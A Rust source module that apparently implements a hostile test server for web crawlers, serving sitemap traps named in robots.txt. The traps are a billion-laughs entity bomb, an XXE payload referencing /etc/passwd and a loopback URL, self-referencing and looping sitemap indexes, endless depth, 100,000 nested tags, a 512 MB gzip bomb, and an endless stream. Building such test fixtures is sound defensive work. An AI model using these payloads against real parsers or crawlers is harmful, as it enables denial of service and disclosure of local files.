//! Sitemaps with entity expansion, loops, endless depth, and external entities that name local files.
//!
//! The attacks are "billion laughs" (2003), external entities (XXE, CWE-611), and sitemap indexes that list themselves
//! and each other. robots.txt names the sitemaps, as the sitemaps.org protocol specifies.

use std::fmt::Write as _;
use std::io;

use super::{HazardRequest, bits, request::ordinary};

const FILES: [&str; 8] = [
    "laughs.xml",
    "external.xml",
    "self.xml",
    "left.xml",
    "deep-0.xml",
    "endless.xml",
    "bomb.xml.gz",
    "nested.xml",
];

pub(super) async fn serve(request: &mut HazardRequest<'_>) -> io::Result<()> {
    let origin = request.origin();
    let index = |file: &str| {
        format!("<sitemapindex><sitemap><loc>{origin}/{file}</loc></sitemap></sitemapindex>")
    };
    let xml = "Content-Type: application/xml\r\n";
    let body = match request.target() {
        "/robots.txt" => {
            let lines = FILES.map(|file| format!("Sitemap: {origin}/{file}\n"));
            return request
                .answer(200, "Content-Type: text/plain\r\n", lines.concat())
                .await;
        }
        "/laughs.xml" => laughs(&origin),
        "/external.xml" => format!(
            "<!DOCTYPE urlset [<!ENTITY x SYSTEM \"file:///etc/passwd\"><!ENTITY y SYSTEM \"http://127.166.0.1/\">]>\
            <urlset><url><loc>{origin}/one.html?&x;&y;</loc></url></urlset>"
        ),
        "/self.xml" => index("self.xml"),
        "/left.xml" => index("right.xml"),
        "/right.xml" => index("left.xml"),
        "/nested.xml" => "<urlset>".repeat(100_000),
        "/bomb.xml.gz" => {
            return request
                .answer(
                    200,
                    "Content-Type: application/gzip\r\n",
                    bits::gzip(512 << 20),
                )
                .await;
        }
        "/endless.xml" => {
            request.start(200, xml).await?;
            request.send(b"<urlset>").await?;
            let entry = format!("<url><loc>{origin}/one.html</loc></url>\n");
            return request.forever(entry.as_bytes()).await;
        }
        target if target.starts_with("/deep-") => index(&format!(
            "deep-{}.xml",
            request.number().unwrap_or(0).wrapping_add(1)
        )),
        _ => return ordinary(request).await,
    };
    request.answer(200, xml, body).await
}

/// A sitemap with ten XML entities. Each entity expands to ten copies of the previous one.
fn laughs(origin: &str) -> String {
    let mut text = "<?xml version=\"1.0\"?><!DOCTYPE urlset [<!ENTITY l0 \"ha\">\n".to_owned();
    for level in 1..10 {
        let inner = format!("&l{};", level - 1).repeat(10);
        let _ = writeln!(text, "<!ENTITY l{level} \"{inner}\">");
    }
    let _ = write!(
        text,
        "]><urlset><url><loc>{origin}/one.html?&l9;</loc></url></urlset>"
    );
    text
}
